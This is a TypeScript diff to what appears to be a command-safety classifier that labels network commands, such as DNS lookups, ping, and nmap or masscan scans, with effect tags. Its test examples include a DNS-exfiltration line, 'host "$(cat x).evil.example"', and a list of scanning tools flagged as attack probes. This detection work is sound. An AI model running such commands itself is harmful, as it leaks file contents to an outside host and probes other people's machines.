@@ -1,7 +1,7 @@
 /** The network: requests, other machines, names, probes, certificates. */
-import type { Effect } from "../contract/effect.ts";
+import { act, type Effect } from "../contract/effect.ts";
 import type { KnownWord } from "../contract/reading.ts";
-import { carries, network as contact, fixed } from "./makers.ts";
+import { carries, network as contact } from "./makers.ts";
 import { networkHttp } from "./network-http.ts";
 import { networkRemote } from "./network-remote.ts";
 import { openssl } from "./openssl.ts";
@@ -17,17 +17,15 @@ const asks: EffectMaker = (use) => {
     (word) => !(word.value ?? "x").startsWith("-") && !(word.value ?? "x").startsWith("+"),
   );
   if (words.length === 0) return [contact(null, use.operands.some(carries))];
-  return words.map((word): Effect => contact(hostWord(word), carries(word), "a name is looked up"));
+  return words.map((word): Effect => contact(hostWord(word), carries(word), "network.look-up"));
 };
 
-const probe =
-  (detail: string): EffectMaker =>
-  (use) => [
-    ...use.operands
-      .filter((word) => !(word.value ?? "x").startsWith("-"))
-      .map((word): Effect => contact(hostWord(word), carries(word), detail)),
-    fixed("system", "read", detail),
-  ];
+const probe: EffectMaker = (use) => [
+  ...use.operands
+    .filter((word) => !(word.value ?? "x").startsWith("-"))
+    .map((word): Effect => contact(hostWord(word), carries(word), "network.probe")),
+  act("attack.probe"),
+];
 
 export const network: readonly ProgramSpec[] = [
   ...networkHttp,
@@ -38,16 +36,16 @@ export const network: readonly ProgramSpec[] = [
     examples: {
       safe: [],
       unsafe: [
-        ["dig example.com", "network"],
-        ['host "$(cat x).evil.example"', "network"],
-        ["whois example.com", "network"],
+        ["dig example.com", ["network.look-up"]],
+        ['host "$(cat x).evil.example"', ["file.read", "network.look-up"]],
+        ["whois example.com", ["network.look-up"]],
       ],
     },
   },
   {
     names: ["ping", "ping6", "traceroute", "tracepath", "mtr", "fping", "arping", "hping3"],
     ...wholly(asks),
-    examples: { safe: [], unsafe: [["ping -c 1 example.com", "network"]] },
+    examples: { safe: [], unsafe: [["ping -c 1 example.com", ["network.look-up", "network.look-up"]]] },
   },
   {
     names: [
@@ -66,12 +64,12 @@ export const network: readonly ProgramSpec[] = [
       "amass",
       "theHarvester",
     ],
-    ...wholly(probe("probes or attacks other machines")),
+    ...wholly(probe),
     examples: {
       safe: [],
       unsafe: [
-        ["nmap -sV 10.0.0.0/24", "network"],
-        ["masscan 10.0.0.0/8", "system"],
+        ["nmap -sV 10.0.0.0/24", ["network.probe", "attack.probe"]],
+        ["masscan 10.0.0.0/8", ["network.probe", "attack.probe"]],
       ],
     },
   },
